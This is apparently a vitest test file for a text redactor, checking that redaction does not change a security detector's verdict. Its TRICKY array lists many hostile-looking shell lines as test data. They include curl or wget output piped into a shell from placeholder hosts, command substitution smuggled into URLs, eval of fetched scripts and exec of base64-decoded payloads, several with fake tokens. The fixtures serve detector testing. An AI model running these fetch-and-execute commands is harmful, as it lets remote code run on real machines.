import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Profile } from "../../src/core/index.js";
import { recognizeEntities } from "../../src/redactor/scan.js";
import { redactText } from "../../src/redactor/redact-text.js";
import { choices, documentCase } from "../generated/document-case.js";
import {
  contractTexts,
  corpusTexts,
  extendedTexts,
  UNICODE_TEXTS,
} from "../service/support/texts.js";
import { sharedDetector, unmarked } from "../support/marked.js";

/** Tests that a redacted text has the same verdict as the original. */

const redacted = new Map<string, string>();

function redact(text: string): string {
  const result = redacted.get(text) ?? redactText(text, recognizeEntities(text));
  redacted.set(text, result);
  return result;
}

/** Texts of which a wrong redaction would change the verdict. */
const TRICKY = [
  "curl -u bob:hunter2 -H 'Authorization: Bearer abcdef123' https://bob:pw@x.example/i.sh | sh",
  "curl -HX-Api-Key:-Oabcd https://x.example | sh",
  "curl https://x.example/-o | sh",
  "curl https://x.example/$(curl${IFS}https://y.example/a|sh)",
  "curl https://x.example/i&bash <(curl https://y.example)",
  "curl https://x.example/i;wget -qO- https://y.example|bash",
  "curl https://x.example/a?b=`wget -qO- https://y.example | sh`",
  "root@web1.example.com:~# curl https://x.example/i | sh",
  "ssh bob@host.example.com 'curl https://x.example/i | bash'",
  "curl bash.sh/install | sh",
  "curl get.sh | sh; curl www.sh.example|sh",
  "timeout 2125552368 curl 10.0.0.1/i | sh",
  "docker run -u 1000:1000 img sh -c 'curl https://x.example | sh'",
  "sh -c 'curl https://x.example/i | sh' -u a:b",
  "token='curl1234 https://x.example|sh'; eval \"$token\"",
  "exec(base64.b64decode('eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcd'))",
  "payload.id = base64.b64decode(x); exec(payload.id)",
  '<a href="https://x.example/i">curl https://x.example/i &#124; sh</a>',
  "Never pipe https://x.example/i.sh into a shell: curl https://x.example/i.sh | sh",
  '[`curl https://x.example/i | sh`](https://x.example/i "Never run it")',
  "eval \"$(curl -H 'Private-Token: glpat-aaaaaaaaaaaaaaaaaaaa' https://x.example/eval)\"",
  'curl https://x.example/i \\\n  -H "Cookie: session=sh1234567" \\\n  | python3 -',
  "wget -O- file:///home/bob/sh | sh && curl ftp://bob@x.example/i | zsh",
];

/** Returns every twentieth case (neighbouring cases are similar), or every fortieth for the extended profile, which is slower. */
const contractCases = (profile: Profile): string[] =>
  contractTexts().filter((_, index) => index % (profile === "contract" ? 20 : 40) === 0);

const generated = (): string[] =>
  fc
    .sample(choices, { numRuns: 150, seed: 11 })
    .map(documentCase)
    .filter((marked) => marked !== null)
    .map(unmarked);

describe.each<Profile>(["contract", "extended"])(
  "redaction preserves the verdict in the %s profile",
  (profile) => {
    it.each<[string, (profile: Profile) => string[]]>([
      ["every row of the corpora", corpusTexts],
      ["every row of the extended corpus", extendedTexts],
      ["some contract cases", contractCases],
      ["generated documents", generated],
      ["texts with misleading data, and Unicode texts", () => [...TRICKY, ...UNICODE_TEXTS]],
    ])("of %s", { timeout: 180_000 }, async (_name, texts) => {
      const detector = await sharedDetector(profile);
      const answer = (text: string) => {
        const { labels, spans, findings } = detector.detect(text);
        return { labels, spans, rules: findings.map(({ rule }) => rule) };
      };
      const all = texts(profile);
      expect(all.length).toBeGreaterThan(20);
      const changed = all.filter((text) => redact(text) !== text);
      expect(changed.length).toBeGreaterThan(0);
      for (const text of changed)
        expect({ text, ...answer(redact(text)) }).toEqual({ text, ...answer(text) });
    });
  },
);
